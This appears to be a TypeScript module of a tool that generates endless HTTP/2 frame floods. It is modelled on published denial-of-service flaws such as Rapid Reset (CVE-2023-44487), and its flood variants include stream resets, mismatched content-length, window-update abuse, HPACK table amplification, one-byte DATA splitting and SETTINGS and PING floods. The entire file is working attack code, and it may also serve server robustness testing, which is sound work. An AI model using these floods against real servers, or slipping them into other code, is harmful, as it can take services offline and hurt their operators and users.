import { FLAG, FRAME, frame, headerBlock } from "./http2-frames.js";

/** Error codes of RFC 9113, section 7. */
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** More than a window grows to: 2^31 - 1. */
const TOO_MUCH = Buffer.from([0x7f, 0xff, 0xff, 0xff]);
const NOTHING = Buffer.alloc(4);
/** Parts of one byte that a message is sent in: the window of its stream. */
const PARTS = 60_000;
/** The prefix of a message of 4 MiB. */
const LONG_MESSAGE = Buffer.from([0, 0, 0x40, 0, 0]);
/** The first entry that a peer adds to the dynamic table of RFC 7541, by the byte that names it. */
const FIRST_ADDED = 0xbe;

/** Frames for one connection, without an end: each kind costs a server more than it costs its client. */
export interface StreamFlood {
  readonly name: string;
  /** Whether it takes a hundred microseconds of a server or more for each stream. */
  readonly isCostly?: true;
  frames(headers: Readonly<Record<string, string>>): Iterable<Buffer>;
}

/** Known from public reports on HTTP/2 servers: CVE-2023-44487, CVE-2025-8671, CVE-2019-9518 and others like them. */
export const streamFloods: readonly StreamFlood[] = [
  {
    name: "streams reset as they are begun",
    isCostly: true,
    *frames(headers) {
      const block = headerBlock(headers);
      for (const id of streamIds()) yield* [begin(id, block), frame(FRAME.reset, 0, id, CANCEL)];
    },
  },
  {
    name: "streams whose length is not as announced",
    isCostly: true,
    *frames(headers) {
      const block = headerBlock({ ...headers, "content-length": "1" });
      for (const id of streamIds()) yield* [begin(id, block), frame(FRAME.data, 0, id, LONG_MESSAGE)];
    },
  },
  {
    name: "streams whose window overflows",
    *frames(headers) {
      const block = headerBlock(headers);
      for (const id of streamIds()) yield* [begin(id, block), frame(FRAME.windowUpdate, 0, id, TOO_MUCH)];
    },
  },
  {
    name: "streams whose window grows by nothing",
    *frames(headers) {
      const block = headerBlock(headers);
      for (const id of streamIds()) yield* [begin(id, block), frame(FRAME.windowUpdate, 0, id, NOTHING)];
    },
  },
  {
    name: "streams with many headers",
    isCostly: true,
    *frames(headers) {
      const more = Array.from({ length: 120 }, (_, i) => [`x-${i}`, "y".repeat(100)]);
      const block = headerBlock({ ...headers, ...Object.fromEntries(more) });
      for (const id of streamIds()) yield* [begin(id, block), frame(FRAME.reset, 0, id, CANCEL)];
    },
  },
  {
    name: "headers that name a long one by a byte",
    *frames(headers) {
      const block = headerBlock(headers);
      const added = Buffer.concat([Buffer.of(0x40), headerBlock({ a: "x".repeat(3900) }).subarray(1)]);
      const short = Buffer.concat([block, Buffer.alloc(15_000, FIRST_ADDED)]);
      let first = true;
      for (const id of streamIds()) {
        yield begin(id, first ? Buffer.concat([block, added]) : short);
        first = false;
      }
    },
  },
  {
    name: "a message in parts of one byte",
    isCostly: true,
    *frames(headers) {
      const block = headerBlock(headers);
      for (const id of streamIds()) {
        yield* [begin(id, block), frame(FRAME.data, 0, id, LONG_MESSAGE)];
        const part = frame(FRAME.data, 0, id, Buffer.of(0));
        for (let sent = 0; sent < PARTS; sent += 1) yield part;
      }
    },
  },
  {
    name: "data that is empty",
    *frames(headers) {
      const [id = 1] = streamIds();
      yield begin(id, headerBlock(headers));
      const empty = frame(FRAME.data, 0, id);
      for (;;) yield empty;
    },
  },
  {
    name: "settings",
    *frames() {
      const settings = frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff]));
      for (;;) yield settings;
    },
  },
  {
    name: "pings",
    *frames() {
      const ping = frame(FRAME.ping, 0, 0, Buffer.alloc(8));
      for (;;) yield ping;
    },
  },
];

function begin(id: number, block: Buffer): Buffer {
  return frame(FRAME.headers, FLAG.endHeaders, id, block);
}

/** Of a client, until there are no more. */
function* streamIds(): Generator<number> {
  for (let id = 1; id < 2 ** 31; id += 2) yield id;
}
